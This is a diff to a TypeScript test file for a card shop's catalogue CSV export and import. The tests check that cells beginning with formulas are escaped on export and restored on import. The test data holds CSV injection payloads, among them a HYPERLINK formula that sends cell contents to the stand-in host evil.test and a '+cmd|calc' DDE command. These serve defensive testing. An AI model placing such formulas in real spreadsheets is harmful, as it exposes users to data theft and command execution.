@@ -3,6 +3,7 @@ import {
   CATALOG_CSV_COLUMNS,
   type CatalogCsvProduct,
   catalogCsv,
+  decodeCsvBytes,
   detectDelimiter,
   parseCsv,
   readCatalogCsv,
@@ -124,21 +125,24 @@ describe("catalogue CSV", () => {
       { ...product, id: 1, title: '=HYPERLINK("http://evil.test/?x="&A1;"clic")', description: "- une puce", series: "@SUM(1+1)" },
       { ...product, id: 2, title: "+cmd|calc", description: "\t=1+2", series: "'=déjà protégé" },
       { ...product, id: 3, title: "Dracaufeu = légende", description: "Prix -10 %", series: "Base Set" },
+      { ...product, id: 4, category: "Accessoires" as const, subCategory: '=HYPERLINK("http://evil.test";"clic")', series: "" },
     ];
     const text = catalogCsv(risky);
     const rows = cells(text).slice(1);
     const column = (name: string) => CATALOG_CSV_COLUMNS.indexOf(name as (typeof CATALOG_CSV_COLUMNS)[number]);
-    expect(rows.map((row) => [row[column("title")], row[column("description")], row[column("series")]])).toEqual([
-      ['\'=HYPERLINK("http://evil.test/?x="&A1;"clic")', "'- une puce", "'@SUM(1+1)"],
-      ["'+cmd|calc", "'\t=1+2", "''=déjà protégé"],
-      ["Dracaufeu = légende", "Prix -10 %", "Base Set"],
+    expect(rows.map((row) => [row[column("title")], row[column("description")], row[column("series")], row[column("sub_category")]])).toEqual([
+      ['\'=HYPERLINK("http://evil.test/?x="&A1;"clic")', "'- une puce", "'@SUM(1+1)", "Scellés"],
+      ["'+cmd|calc", "'\t=1+2", "''=déjà protégé", "Scellés"],
+      ["Dracaufeu = légende", "Prix -10 %", "Base Set", "Scellés"],
+      [product.title, product.description, "", '\'=HYPERLINK("http://evil.test";"clic")'],
     ]);
     const read = readCatalogCsv(text);
     expect(read.errors).toEqual([]);
-    expect(read.rows.map((row) => [row.input.name, row.input.description, row.input.series])).toEqual([
-      ['=HYPERLINK("http://evil.test/?x="&A1;"clic")', "- une puce", "@SUM(1+1)"],
-      ["+cmd|calc", "\t=1+2", "'=déjà protégé"],
-      ["Dracaufeu = légende", "Prix -10 %", "Base Set"],
+    expect(read.rows.map((row) => [row.input.name, row.input.description, row.input.series, row.input.subCategory])).toEqual([
+      ['=HYPERLINK("http://evil.test/?x="&A1;"clic")', "- une puce", "@SUM(1+1)", "Scellés"],
+      ["+cmd|calc", "\t=1+2", "'=déjà protégé", "Scellés"],
+      ["Dracaufeu = légende", "Prix -10 %", "Base Set", "Scellés"],
+      [product.title, product.description, "", '=HYPERLINK("http://evil.test";"clic")'],
     ]);
   });
 
@@ -185,6 +189,13 @@ describe("catalogue CSV", () => {
     const handMade = readCatalogCsv(`${withoutColumn.join(";")}\n3;Booster;desc;6,49;5;en_ligne;TCG;Scellés;;;;;non;;pokemon_1;;;`);
     expect(handMade.errors).toEqual([]);
     expect(handMade.rows[0]).toMatchObject({ id: 3, stockExported: null, input: { stock: "5" } });
+  });
+
+  it("reads UTF-8, and Windows-1252 as French Excel writes it (’ œ – € included)", () => {
+    expect(decodeCsvBytes(new TextEncoder().encode("L’été du cœur – 12 €"))).toBe("L’été du cœur – 12 €");
+    const cp1252 = Uint8Array.from([0x4c, 0x92, 0xe9, 0x74, 0xe9, 0x20, 0x63, 0x9c, 0x75, 0x72, 0x20, 0x96, 0x20, 0x31, 0x32, 0x20, 0x80, 0x85, 0x9f]);
+    expect(decodeCsvBytes(cp1252)).toBe("L’été cœur – 12 €…Ÿ");
+    expect(decodeCsvBytes(Uint8Array.from([0x61, 0x00, 0x62]))).toBeNull();
   });
 
   it("moves the stock only from the stock exported, or finds it already as the file says", () => {
